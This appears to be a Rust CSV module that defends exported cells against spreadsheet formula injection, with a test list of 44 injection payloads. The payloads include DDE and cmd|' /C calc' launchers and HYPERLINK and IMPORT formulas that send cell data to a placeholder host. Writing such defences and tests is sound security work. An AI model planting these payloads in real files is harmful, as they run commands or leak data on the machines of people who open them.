//! Comma-separated values that survive spreadsheets (RS-14), and reading them back.

use super::{Cell, Column, Kind, Table};
use crate::error::{Error, Result};

/// What spreadsheets take for the beginning of a formula, also in the wide forms of East Asian keyboards; and the
/// apostrophe, so that taking one away always gives the text back.
const RISKY: [char; 12] =
    ['=', '+', '-', '@', '\'', '\t', '\r', '\n', '\u{ff1d}', '\u{ff0b}', '\u{ff0d}', '\u{ff20}'];

/// A text that no spreadsheet takes for a formula (CWE-1236), in quotes where it needs them.
///
/// An apostrophe in front is what spreadsheets themselves mark a text with.
pub fn quoted(text: &str) -> String {
    let first = text.trim_start_matches([' ', '\u{a0}', '\u{feff}']).chars().next();
    let risky = first.is_some_and(|first| RISKY.contains(&first));
    let text = if risky { format!("'{text}") } else { text.to_owned() };
    // An empty text is not nothing.
    match text.is_empty() || text.contains([',', ';', '"', '\n', '\r', '\t']) || text.trim() != text {
        true => format!("\"{}\"", text.replace('"', "\"\"")),
        false => text,
    }
}

pub(super) fn write(table: &Table) -> String {
    let mut text = table.columns.iter().map(|column| column.name).collect::<Vec<_>>().join(",") + "\n";
    for row in &table.rows {
        let cells: Vec<String> = row.iter().map(cell).collect();
        text += &cells.join(",");
        text.push('\n');
    }
    text
}

/// Lists are separated by spaces.
fn cell(cell: &Cell) -> String {
    match cell {
        Cell::Nothing => String::new(),
        Cell::Whole(number) => number.to_string(),
        Cell::Real(number) => number.to_string(),
        Cell::Time(time) => time.to_string(),
        Cell::Text(text) => quoted(text),
        Cell::Counts(counts) => counts.iter().map(ToString::to_string).collect::<Vec<_>>().join(" "),
    }
}

pub(super) fn read(name: &'static str, columns: &'static [Column], text: &str) -> Result<Table> {
    let mut records = records(text);
    let header = records.next().unwrap_or_default();
    if !header.iter().map(|(cell, _)| cell.as_str()).eq(columns.iter().map(|column| column.name)) {
        return Err(Error::Missing(format!("line 1: not the header of the table of {name}")));
    }
    let mut rows = vec![];
    for (n, record) in records.enumerate() {
        let wrong = |what: String| Error::Missing(format!("row {} after the header: {what}", n + 1));
        if record.len() != columns.len() {
            return Err(wrong(format!("{} cells, expected {}", record.len(), columns.len())));
        }
        let cells = record.into_iter().zip(columns).map(|((cell, quoted), column)| {
            value(&cell, quoted, column.kind)
                .ok_or_else(|| wrong(format!("{} is \"{cell}\", expected {:?}", column.name, column.kind)))
        });
        rows.push(cells.collect::<Result<_>>()?);
    }
    Ok(Table { name, columns, rows })
}

fn value(cell: &str, quoted: bool, kind: Kind) -> Option<Cell> {
    if cell.is_empty() && !quoted {
        return Some(if kind == Kind::Counts { Cell::Counts(vec![]) } else { Cell::Nothing });
    }
    match kind {
        Kind::Whole => cell.parse().ok().map(Cell::Whole),
        Kind::Real => cell.parse().ok().map(Cell::Real),
        Kind::Time => cell.parse().ok().map(Cell::Time),
        Kind::Text => Some(Cell::text(cell.strip_prefix('\'').unwrap_or(cell))),
        Kind::Counts => {
            cell.split(' ').map(|n| n.parse().ok()).collect::<Option<Vec<u64>>>().map(Cell::Counts)
        }
    }
}

/// Records of cells, and whether each was in quotes.
fn records(text: &str) -> impl Iterator<Item = Vec<(String, bool)>> {
    let mut letters = text.chars().peekable();
    std::iter::from_fn(move || {
        letters.peek()?;
        let mut record = vec![];
        let (mut cell, mut quoted, mut inside) = (String::new(), false, false);
        while let Some(letter) = letters.next() {
            match letter {
                '"' if inside && letters.next_if_eq(&'"').is_some() => cell.push('"'),
                '"' => (quoted, inside) = (true, !inside),
                ',' if !inside => record.push((std::mem::take(&mut cell), std::mem::take(&mut quoted))),
                '\n' if !inside => break,
                letter => cell.push(letter),
            }
        }
        record.push((cell, quoted));
        Some(record)
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    /// What has been used to make spreadsheets compute, fetch or start something, and neighbours of it.
    const PAYLOADS: [&str; 44] = [
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(A1:A9)",
        "=cmd|' /C calc'!A0",
        "+cmd|' /C calc'!A0",
        "-cmd|' /C calc'!A0",
        "@cmd|' /C calc'!A0",
        "=HYPERLINK(\"http://192.0.2.1/?x=\"&A1,\"open\")",
        "=IMPORTXML(\"http://192.0.2.1\",\"//a\")",
        "=IMPORTFEED(\"http://192.0.2.1\")",
        "=IMPORTHTML(\"http://192.0.2.1\",\"table\",1)",
        "=IMPORTRANGE(\"x\",\"A1\")",
        "=IMPORTDATA(\"http://192.0.2.1\")",
        "=IMAGE(\"http://192.0.2.1/x.png\")",
        "=WEBSERVICE(\"http://192.0.2.1\")",
        "=DDE(\"cmd\";\"/C calc\";\"x\")",
        "=MSEXCEL|'\\..\\..\\x.exe'!''",
        "=rundll32|'URL.dll,OpenURL x'!A",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "\r\n=1+1",
        " =1+1",
        "  +1",
        "\u{a0}=1+1",
        "\u{feff}=1+1",
        "\u{ff1d}1+1",
        "\u{ff0b}1",
        "\u{ff0d}1",
        "\u{ff20}SUM(1)",
        "'=1+1",
        "''=1",
        "\"=1+1",
        "\";=1+1;\"",
        "x\",=1+1,\"",
        "x\n=1+1",
        "x\r=1+1",
        "=1+1\";calc|A!Z;\"",
        "-2+3+cmd|' /C calc'!D2",
        "+-=@x",
        "=",
        "=SUM(1;2),=3",
        "@x,\"y\"\n=z",
    ];

    const ONE: [Column; 1] = [super::super::column("text", Kind::Text, "")];

    #[test]
    fn no_payload_begins_a_cell_and_every_text_comes_back() {
        for payload in PAYLOADS {
            let written = quoted(payload);
            let table = Table { name: "x", columns: &ONE, rows: vec![vec![Cell::text(payload)]] };
            let text = table.csv();
            assert_eq!(Table::from_csv("x", &ONE, &text).unwrap(), table, "{payload:?}");
            // A reader sees one cell, and what it sees does not begin like a formula.
            let cells = records(&text).nth(1).unwrap();
            assert_eq!(cells.len(), 1, "{payload:?} became {written:?}");
            let seen = cells[0].0.trim_start_matches(|c: char| c.is_whitespace() || c == '\u{feff}');
            let first = seen.chars().next().unwrap();
            assert!(first == '\'' || !RISKY.contains(&first), "{payload:?} became {written:?}");
        }
        println!("{} payloads", PAYLOADS.len());
    }

    #[test]
    fn plain_texts_stay_as_they_are() {
        for text in ["plain", "a'b", "x = y", "1-2"] {
            assert_eq!(quoted(text), text);
        }
        assert_eq!(quoted("a,b"), "\"a,b\"");
        assert_eq!(quoted("say \"x\""), "\"say \"\"x\"\"\"");
    }
}
